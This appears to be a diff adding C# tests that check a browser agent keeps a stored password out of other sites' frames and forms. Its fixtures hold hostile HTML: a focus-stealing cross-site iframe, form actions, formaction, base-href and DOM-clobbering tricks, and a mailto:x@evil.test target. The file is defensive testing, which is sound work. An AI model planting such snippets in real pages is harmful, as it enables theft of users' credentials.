@@ -1,0 +1,81 @@
+using Dashboard.BrowserAgent;
+using Dashboard.Contracts;
+using Dashboard.Tests.Fixtures;
+
+namespace Dashboard.Tests.BrowserAgent.Secrets;
+
+/// <summary>Whom a secret reaches that is typed into a field of its own site.</summary>
+public sealed class SecretTypingTests(ChromiumFixture chromium) : AgentHarness(chromium)
+{
+    private const string Value = "s3cret-value";
+
+    private static readonly PageScript ValueOf = new("value", "() => document.querySelector('input').value");
+
+    public override async ValueTask InitializeAsync()
+    {
+        await base.InitializeAsync();
+        Options = Options with { Secrets = [new Secret("shop.password", Value, [Pages.Address])] };
+    }
+
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task A_frame_of_another_site_that_takes_the_focus_all_the_time_gets_nothing_of_it(bool realistic)
+    {
+        var thief = Pages.Add("<input><script>setInterval(() => document.querySelector('input').focus(), 1)</script>").Replace(Pages.Address, Pages.OtherSite, StringComparison.Ordinal);
+
+        // The field keeps its page busy for so long that the other frame has the focus when its page goes on.
+        await ShowAsync($"<label>Own <input name=o onfocus='for (const end = performance.now() + 150; performance.now() < end;);'></label><iframe src='{thief}'></iframe>");
+
+        var happened = await TypeAsync(realistic);
+
+        var stolen = (await Session.CurrentTab.Frames[1].EvaluateAsync(ValueOf, [], Cancel)).GetString();
+        var own = (await Session.CurrentTab.MainFrame.EvaluateAsync(ValueOf, [], Cancel)).GetString();
+        Assert.Equal("", stolen);
+        Assert.Equal(realistic ? ("", "secret_refused") : (Value, null), (own, happened.Actions[0].Error?.Code));
+    }
+
+    [Theory]
+    [InlineData("<form action='{other}/x'>{field}</form>", false)]
+    [InlineData("<form><button formaction='{other}/x'>Go</button>{field}</form>", false)]
+    [InlineData("<form id=f></form><input type=submit form=f formaction='{other}/x'>{field}", false)]
+    [InlineData("<base href='{other}/'><form action='x'>{field}</form>", false)]
+    [InlineData("<form action='mailto:x@evil.test'>{field}</form>", false)]
+    [InlineData("<img name=baseURI><form action='{other}/x'><input name=action><input name=getAttribute>{field}</form>", false)]
+    [InlineData("<form action='/x'>{field}<button formaction='{own}/y'>Go</button></form><form action='{other}/x'></form>", true)]
+    [InlineData("<form action='javascript:void 0'>{field}</form>", true)]
+    public async Task A_form_that_sends_it_to_another_site_does_not_get_it(string body, bool isTyped)
+    {
+        var field = body.Contains("form=f", StringComparison.Ordinal) ? "<label>Own <input name=o form=f></label>" : "<label>Own <input name=o></label>";
+        await ShowAsync(body.Replace("{field}", field, StringComparison.Ordinal).Replace("{other}", Pages.OtherSite, StringComparison.Ordinal).Replace("{own}", Pages.Address, StringComparison.Ordinal));
+
+        var happened = await TypeAsync(realistic: false);
+
+        var held = await Session.CurrentTab.MainFrame.EvaluateAsync(new PageScript("held", "() => document.querySelector('[name=o]').value"), [], Cancel);
+        Assert.Equal(isTyped ? (Value, null) : ("", "secret_refused"), (held.GetString(), happened.Actions[0].Error?.Code));
+    }
+
+    [Fact]
+    public async Task It_replaces_what_a_field_holds_with_trusted_input_and_a_key_that_is_let_go_and_says_nothing_of_it()
+    {
+        await ShowAsync(
+            "<label>Own <input name=o type=password value=before onkeyup='keys += event.key' oninput='keys += event.isTrusted + event.inputType'></label><script>keys = ''</script>");
+
+        await TypeAsync(realistic: false);
+
+        var state = new PageScript("state", "() => document.querySelector('[name=o]').value");
+        Assert.Equal(Value, (await Session.CurrentTab.MainFrame.EvaluateAsync(state, [], Cancel)).GetString());
+        var answer = await Session.CurrentTab.Session.SendAsync("Runtime.evaluate", new { expression = "keys" }, Cancel);
+        Assert.Equal("trueinsertTextShift", answer.GetProperty("result").GetProperty("value").GetString());
+    }
+
+    private Task<Happened> TypeAsync(bool realistic) => RunToEndAsync("Sign in", request => request.Number == 1
+        ? AgentReply.Act("Type", new TypeParameters { Target = new ElementTarget(Field(request)), Text = "<secret:shop.password>", Realistic = realistic })
+        : AgentReply.Done("ok"));
+
+    private static int Field(FakeModelRequest request)
+    {
+        var page = SeenPage.In(request);
+        return page.Has("textbox", "Own") ? page.Find("textbox", "Own") : page.Find("password", "Own");
+    }
+}
